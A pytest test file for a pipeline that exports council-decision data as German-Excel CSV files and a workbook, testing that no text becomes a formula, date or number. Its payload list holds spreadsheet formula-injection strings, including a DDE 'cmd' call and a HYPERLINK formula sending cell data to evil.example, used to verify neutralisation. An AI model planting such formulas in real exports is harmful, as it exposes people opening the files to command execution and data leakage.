"""What a German Excel gets: the CSV files and the workbook, in which no text becomes a formula, a day or another number."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.release import Draft, WrittenTable, excel_workbook
from pipeline.release.cells import LONGEST, excel_text, plain_text
from pipeline.release.curation import Curation
from pipeline.release.excel import FOLDER, ExcelCsvWriter, safe
from pipeline.release.excel_cells import MOST_LINKS
from pipeline.release.excel_workbook import FILE, in_order, shown, write_workbook
from pipeline.release.frames import arrow_schema
from pipeline.release.schema import public_tables
from pipeline.release.writers import ParquetWriter, Writer
from tests.pipeline.release.finished import finished

FORMULAS = ["1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?q="&A1;"hier")', "IMPORTXML(A1)"]
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " ="]
PAYLOADS = [start + formula for start in STARTS for formula in FORMULAS]
TAKEN = ["40/7/7", "1/2", "10-3", "2024/0012", "3.1", "10.4.1", "0012", "08336050", "5e1234567890123", "1234567890123456", "12:30", "(5)", "5 %",
         "90.000,00 EUR", "€ 5", "1.", "Mai 21", "1. Mai 2021", "10-Okt-2020", "WAHR", "false", "#NV", "3 p", "2021-01-01T10:00:00", "1 1/2"]  # fmt: skip
LEFT = [
    "",
    "0",
    "11",
    "123456789012345",
    "Ö 18.12",
    "TOP 3",
    "a)",
    "1. Quartal",
    "Mai",
    "Ratsbeschluss",
    "§ 20",
    "12 Ja-Stimmen",
    "12 Uhr",
    "'s",
]
TEXTS = [*PAYLOADS, *TAKEN, *LEFT[1:], 'er sagte "nein"; dann nicht', "erste Zeile\nzweite Zeile"]
AMOUNTS = [
    {"id": "00a1", "amount": Decimal("-1234567.50"), "fiscal_years": [2021, 2022], "char_start": 7, "meeting_date": date(2021, 5, 1), "ags": "08336050"},
    {"id": "00a2", "amount": None, "fiscal_years": [], "quote": "=1+1\nzwei; drei", "permalink": "evidence/00d1.html#00a2"},
    {"id": "00a3", "amount": Decimal("12345678901234.56"), "meeting_date": date(1899, 12, 31), "quote": "x" * 40_000, "permalink": "https://a/" + "b" * 3_000},
]  # fmt: skip
MEETINGS = [{"id": "00b1", "council": "wehrstadt", "cancelled": False, "start": datetime(2021, 5, 1, 16, 30, tzinfo=UTC)}]
ROWS: dict[str, list[dict[str, Any]]] = {
    "amounts": AMOUNTS,
    "meetings": MEETINGS,
    "votes": [{"id": f"{number:016x}", "council": "wehrstadt", "subject_text": text, "yes": number} for number, text in enumerate(TEXTS)],
}


def write(writer: Writer, rows: dict[str, list[dict[str, Any]]]) -> None:
    for name, table in public_tables().items():
        writer.begins(table, 0)
        if name in rows:
            writer.writes(pa.RecordBatch.from_pylist(rows[name], schema=arrow_schema(name)))
        writer.ends()
    writer.closes()


@pytest.fixture(scope="module")
def draft(tmp_path_factory: pytest.TempPathFactory) -> Draft:
    folder = tmp_path_factory.mktemp("release")
    for writer in (ParquetWriter(folder), ExcelCsvWriter(folder)):
        write(writer, ROWS)
    tables = tuple(WrittenTable(name, len(ROWS.get(name, []))) for name in public_tables())
    draft = Draft("20261122T231500Z-3fa9c1d2", "2026-11-22T23:15:00+00:00", folder, folder, tables, Curation())
    write_workbook(draft)
    return draft


def lines(draft: Draft, table: str) -> list[dict[str, str]]:
    text = (draft.folder / FOLDER / f"{table}.excel-de.csv").read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.fixture(scope="module")
def book(draft: Draft) -> Any:
    return openpyxl.load_workbook(draft.folder / FILE)


def cells(book: Any, table: str) -> list[dict[str, Any]]:
    _, names, *rows = book[public_tables()[table].title].iter_rows()
    return [{name.value: cell for name, cell in zip(names, row, strict=True)} for row in rows]


# --- CSV


@pytest.mark.parametrize("text", [*PAYLOADS, *TAKEN])
def test_text_that_a_spreadsheet_would_change_gets_an_apostrophe(text: str) -> None:
    assert excel_text(text) == "'" + text.replace("\r", " ⏎ ").replace("\n", " ⏎ ")


@pytest.mark.parametrize("text", LEFT)
def test_all_other_text_is_left_as_it_is(text: str) -> None:
    assert excel_text(text) == text


tricky = st.text(alphabet="'=+-@ \t\n019.,:/()%€eEMaäi⏎wahr#\u00a0\u200b\u2003１", max_size=12)


@given(st.lists(tricky, min_size=1, max_size=20))
def test_a_column_is_made_safe_as_its_cells_are_and_can_be_read_back(texts: list[str]) -> None:
    made = [excel_text(text) for text in texts]

    assert safe(pa.array(texts)).to_pylist() == made
    assert [plain_text(cell) for cell in made] == [text.replace("\n", " ⏎ ").replace(" ⏎ ", "\n") for text in texts]


def test_a_file_is_what_a_german_excel_opens(draft: Draft) -> None:
    head, first, second, _ = (draft.folder / FOLDER / "amounts.excel-de.csv").read_bytes().decode().split("\r\n", 3)

    assert head.startswith("\ufeffid;council;document_id;amount;amount_max;currency;")
    assert first.startswith('"00a1";;;-1234567,50;;;;;"[2021, 2022]";;;;;7;;')
    assert ";2021-05-01;" in first
    assert first.endswith(';"\'08336050";')
    assert ';"\'=1+1 ⏎ zwei; drei";' in second


def test_moments_and_truths_have_the_forms_of_a_german_excel(draft: Draft) -> None:
    (meeting,) = lines(draft, "meetings")

    assert (meeting["cancelled"], meeting["start"], meeting["end"]) == ("FALSCH", "2021-05-01 16:30:00", "")


def test_no_cell_is_longer_than_excel_can_hold(draft: Draft) -> None:
    quote = lines(draft, "amounts")[2]["quote"]

    assert (len(quote), quote[-3:]) == (LONGEST, "x …")


def test_the_texts_of_documents_are_left_out(draft: Draft) -> None:
    names = {path.name for path in (draft.folder / FOLDER).iterdir()}

    assert names == {f"{name}.excel-de.csv" for name in public_tables() if name != "document_texts"}


# --- the workbook


def test_the_workbook_has_facts_first_and_says_what_is_what(book: Any) -> None:
    titles = book.sheetnames

    assert titles[:3] == ["Lies mich", public_tables()["votes"].title, public_tables()["amounts"].title]
    assert titles[-1] == "Spalten"
    assert len(titles) == len(public_tables()) + 1  # two more, and document_texts is none of them
    said = [cell.value for row in book["Lies mich"].iter_rows() for cell in row]
    assert {"Beschlussbuch", "20261122T231500Z-3fa9c1d2", "2026-11-22T23:15:00+00:00", "votes", len(TEXTS)} <= set(said)


def test_a_sheet_has_headings_for_people_names_for_programs_and_typed_cells(book: Any) -> None:
    table = book[public_tables()["amounts"].title]
    first, second, third = cells(book, "amounts")

    assert [cell.value for cell in table[1]] == [column.words.title for column in public_tables()["amounts"].columns]
    assert [cell.value for cell in table[2]] == [column.name for column in public_tables()["amounts"].columns]
    assert (table.freeze_panes, table.auto_filter.ref.split(":")[0]) == ("A3", "A2")
    assert (first["amount"].value, first["amount"].number_format) == (-1234567.5, "#,##0.00")
    assert (first["meeting_date"].value, first["meeting_date"].is_date) == (datetime.fromisoformat("2021-05-01"), True)
    assert (first["ags"].value, first["char_start"].value, first["fiscal_years"].value) == ("08336050", 7, "[2021, 2022]")
    assert (second["amount"].value, second["quote"].value, second["quote"].data_type) == (None, "=1+1\nzwei; drei", "s")
    assert second["permalink"].hyperlink.target == "evidence\\00d1.html"  # as Excel writes it; LibreOffice follows it, too
    assert (third["amount"].value, third["meeting_date"].value) == ("12345678901234.56", "1899-12-31")  # Excel has no such numbers
    assert len(third["quote"].value) == LONGEST


def test_every_text_is_in_the_workbook_as_it_is_and_none_is_a_formula(book: Any) -> None:
    found = [row["subject_text"] for row in cells(book, "votes")]

    assert [cell.value for cell in found] == [text.replace("\r", "\n") for text in TEXTS]  # as Excel ends lines
    assert {cell.data_type for cell in found} == {"s"}


def test_a_table_that_is_too_long_has_no_half_sheet(draft: Draft, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(excel_workbook, "LONGEST_SHEET", 50)
    copied = Path(shutil.copytree(draft.folder, tmp_path / "release"))
    write_workbook(Draft(draft.id, draft.moment, copied, copied, draft.tables, draft.curation))

    title = public_tables()["votes"].title
    files = "tables/votes.csv oder .parquet, excel/votes.excel-de.csv"
    short = openpyxl.load_workbook(copied / FILE)
    said = [cell.value for row in short[title].iter_rows() for cell in row]
    assert said == [f"{title}: {len(TEXTS)} Zeilen, zu viele für ein Blatt. Die ganze Tabelle: {files}."]
    assert len(cells(short, "amounts")) == len(AMOUNTS)


def test_facts_have_the_first_claim_on_the_workbook() -> None:
    tables = [
        WrittenTable("documents", 30_000),
        WrittenTable("votes", 80_000),
        WrittenTable("amounts", 100_001),
        WrittenTable("recusals", 9),
    ]

    assert [table.name for table in in_order(tables)] == ["votes", "amounts", "recusals", "documents"]
    assert shown(in_order(tables)) == {"votes", "recusals"}
    assert MOST_LINKS < 65_530


def test_the_same_tables_give_the_same_bytes(draft: Draft, tmp_path: Path) -> None:
    copied = Path(shutil.copytree(draft.folder, tmp_path / "release", ignore=shutil.ignore_patterns("*.xlsx")))
    write_workbook(Draft(draft.id, draft.moment, copied, copied, draft.tables, draft.curation))

    assert (copied / FILE).read_bytes() == (draft.folder / FILE).read_bytes()


# --- the sheets before the tables


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Any:
    folder = tmp_path_factory.mktemp("made") / "release"
    finished(folder).connection.close()
    write_workbook(Draft("20261122T231500Z-3fa9c1d2", None, folder, folder, (), Curation()))
    return openpyxl.load_workbook(folder / FILE)


def test_the_first_sheets_say_what_a_vote_or_a_sum_is_about(made: Any) -> None:
    assert made.sheetnames == ["Lies mich", "Beschlüsse und Abstimmungen", "Geld in Beschlüssen", "Termine", "Spalten"]
    decisions, sums, due = ([dict(zip(names, row, strict=True)) for row in rows] for names, *rows in map(values_of, made.worksheets[1:4]))
    first = decisions[0]
    assert (first["title"], first["yes"], first["unanimous"]) == (
        "Doppelhaushalt 2025/26, Wohnheim für Flüchtlinge in der Straße am Wehr", 13, "FALSCH",
    )  # fmt: skip
    assert (first["meeting_date"], first["permalink"], "search_row" in first) == (datetime(2024, 3, 12), "evidence/d1.html#close", False)  # noqa: DTZ001
    assert [(one["amount"], one["outcome"]) for one in sums] == [(1250000, "adopted"), (90000, "adopted"), (300000, "adopted")]
    assert [one["what"] for one in due] == ["deadline", "next report"]
    said = {(row[1], row[2]) for row in made["Spalten"].iter_rows(values_only=True)}
    assert {("decisions", "title"), ("money", "outcome"), ("due_dates", "due")} <= said


def values_of(sheet: Any) -> list[tuple[Any, ...]]:
    """The names of a sheet's columns and its rows, without the headings above."""
    return list(sheet.iter_rows(min_row=2, values_only=True))


def test_a_view_that_is_too_long_is_looked_for_where_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(excel_workbook, "LONGEST_MADE", 2)
    finished(tmp_path).connection.close()
    write_workbook(Draft("20261122T231500Z-3fa9c1d2", None, tmp_path, tmp_path, (), Curation()))
    sheet = openpyxl.load_workbook(tmp_path / FILE)["Beschlüsse und Abstimmungen"]
    assert sheet["A1"].value == (
        "Beschlüsse und Abstimmungen: 3 Zeilen, zu viele für ein Blatt. Die ganze Tabelle: die Sicht decisions in beschlussbuch.sqlite."
    )


def test_sheets_are_printed_lengthwise_with_their_headings(made: Any) -> None:
    for sheet in made:
        assert (sheet.page_setup.orientation, int(sheet.page_setup.paperSize)) == ("landscape", 9)
    assert made["Termine"].print_title_rows == "$1:$2"
    assert made["Lies mich"].sheet_properties.pageSetUpPr.fitToPage


# --- LibreOffice, which takes text for numbers and days as Excel does

GERMAN = "59,34,76,1,,1031,false,true,false"
"""Semicolon, quotes, UTF-8, from line 1, German, quoted text is looked at too, numbers and days are detected, formulas are not."""


@pytest.mark.slow
@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed (apt-get install libreoffice-calc)")
def test_libreoffice_opens_both_and_finds_no_formula_and_no_changed_value(draft: Draft, tmp_path: Path) -> None:
    def opened(*paths: Path, options: Sequence[str] = ()) -> None:
        profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
        command = ["soffice", profile, "--headless", "--convert-to", "xlsx:Calc MS Excel 2007 XML", *options, "--outdir", str(tmp_path)]
        subprocess.run([*command, *map(str, paths)], check=True, capture_output=True, timeout=120)

    files = [draft.folder / FOLDER / f"{name}.excel-de.csv" for name in ("votes", "amounts")]
    opened(draft.folder / FILE)
    opened(*files, options=[f"--infilter=CSV:{GERMAN}"])

    book = openpyxl.load_workbook(tmp_path / FILE)
    assert [cell.value for one in book for row in one.iter_rows() for cell in row if cell.data_type == "f"] == []
    assert [row["subject_text"].value for row in cells(book, "votes")] == [text.replace("\r", "\n") for text in TEXTS]

    for name in ("votes", "amounts"):
        (head, *rows) = openpyxl.load_workbook(tmp_path / f"{name}.excel-de.xlsx").active.iter_rows()
        found = [{one.value: cell for one, cell in zip(head, row, strict=True)} for row in rows]
        assert [cell.value for row in rows for cell in row if cell.data_type == "f"] == []
        if name == "votes":
            assert [str(row["subject_text"].value) for row in found] == [excel_text(text) for text in TEXTS]
            assert [row["yes"].value for row in found] == list(range(len(TEXTS)))
        else:
            assert (found[0]["amount"].value, found[0]["meeting_date"].value) == (-1234567.5, datetime.fromisoformat("2021-05-01"))
